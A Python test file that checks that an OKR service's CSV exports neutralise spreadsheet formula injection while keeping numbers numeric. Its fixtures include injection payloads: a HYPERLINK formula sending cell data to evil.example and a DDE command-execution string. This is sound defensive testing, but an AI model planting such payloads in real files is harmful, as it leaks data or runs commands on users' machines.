"""CSV exports never carry a spreadsheet formula: formula-like text gets a leading ``'``.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return is what Excel and
LibreOffice would run; the export writes it with a single quote in front (and quoted), while
numbers stay bare numbers, negative ones included. NDJSON keeps the text as stored.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

from api.services.exports import as_text_cell
from tests.conftest import Actor
from tests.support.builders import make_cycle, make_unit
from tests.support.seed import seed_check_in, seed_scored_objective

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-x",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    '=1+2";=1+2',
]
"""Titles a spreadsheet would evaluate (seeded as rows: titles refuse tab and CR on input)."""
HARMLESS = ["Grow 30%", "1 + 1", "x=1", "'quoted", "a;b", ""]


def parse(response: httpx.Response) -> tuple[list[str], list[list[Any]]]:
    """The header, then every row read as a spreadsheet would: unquoted cells are numbers."""
    assert response.status_code == 200, response.text
    head, _, body = response.text.partition("\r\n")
    header = next(csv.reader([head]))
    rows = list(csv.reader(io.StringIO(body, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    return header, rows


def column(header: list[str], rows: list[list[Any]], name: str) -> list[Any]:
    return [row[header.index(name)] for row in rows]


@pytest.fixture
async def seeded(app: FastAPI, admin: Actor) -> list[str]:
    """An agreed objective per formula-like title, each KR with a check-in of -3.5 and a note."""
    await make_unit(admin.client, "Company")
    cycle = await make_cycle(admin.client, state="active")
    krs = []
    for title in FORMULAS:
        okr = await seed_scored_objective(
            app, cycle_id=cycle["id"], owner_id=admin.id, title=title, key_results=[("100", "0")]
        )
        krs += okr.key_result_ids
    for kr_id in krs:
        await seed_check_in(
            app, kr_id, observed_at=datetime(2026, 1, 10, tzinfo=UTC), confidence=3, value="-3.5"
        )
    return krs


class TestCsv:
    async def test_formula_like_titles_are_written_as_text(
        self, admin: Actor, seeded: list[str]
    ) -> None:
        header, rows = parse(await admin.client.get("/v1/exports/objectives"))

        titles = column(header, rows, "title")

        assert sorted(titles) == sorted("'" + t for t in FORMULAS)
        assert all(isinstance(t, str) and t.startswith("'") for t in titles)

    async def test_joined_text_is_neutralised_too_and_numbers_stay_numbers(
        self, admin: Actor, seeded: list[str]
    ) -> None:
        header, rows = parse(await admin.client.get("/v1/exports/check-ins"))

        assert sorted(column(header, rows, "objective_title")) == sorted("'" + t for t in FORMULAS)
        assert column(header, rows, "value") == [-3.5] * len(FORMULAS)
        assert column(header, rows, "confidence") == [3.0] * len(FORMULAS)
        assert all(isinstance(v, str) for v in column(header, rows, "observed_at"))

    async def test_negative_key_result_values_stay_numbers(
        self, admin: Actor, seeded: list[str]
    ) -> None:
        response = await admin.client.get("/v1/exports/key-results")
        header, rows = parse(response)

        assert column(header, rows, "current_value") == [0.0] * len(FORMULAS)
        assert column(header, rows, "weight") == [100.0] * len(FORMULAS)
        # No formula trigger begins a cell, quoted or not.
        for line in response.text.splitlines()[1:]:
            for cell in next(csv.reader([line])):
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), line
                assert not cell.startswith("-") or cell.lstrip("-")[:1].isdigit(), line

    async def test_notes_that_may_hold_tab_and_cr_are_neutralised(
        self, app: FastAPI, admin: Actor
    ) -> None:
        await make_unit(admin.client, "Company")
        cycle = await make_cycle(admin.client, state="active")
        okr = await seed_scored_objective(app, cycle_id=cycle["id"], owner_id=admin.id)
        kr = okr.key_result_ids[0]
        for n, note in enumerate(["\tx", "\rx", "-3.5", "=cmd|' /C calc'!A0"]):
            created = await admin.client.post(
                f"/v1/key-results/{kr}/check-ins",
                json={"value": n, "note": note, "observed_at": f"2026-01-0{n + 1}T00:00:00Z"},
            )
            assert created.status_code == 201, created.text

        header, rows = parse(await admin.client.get("/v1/exports/check-ins"))

        assert sorted(column(header, rows, "note")) == sorted(
            ["'\tx", "'\rx", "'-3.5", "'=cmd|' /C calc'!A0"]
        )

    async def test_the_header_is_plain(self, admin: Actor, seeded: list[str]) -> None:
        response = await admin.client.get("/v1/exports/objectives")

        assert response.text.startswith("id,title,cycle_id,")


class TestNdjson:
    async def test_text_is_exported_unchanged(self, admin: Actor, seeded: list[str]) -> None:
        response = await admin.client.get("/v1/exports/check-ins", params={"format": "ndjson"})

        lines = [json.loads(line) for line in response.text.splitlines()]

        assert sorted(line["objective_title"] for line in lines) == sorted(FORMULAS)
        assert [line["value"] for line in lines] == [-3.5] * len(FORMULAS)


def test_only_formula_triggers_get_a_quote() -> None:
    assert [as_text_cell(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    assert [as_text_cell(t) for t in HARMLESS] == HARMLESS
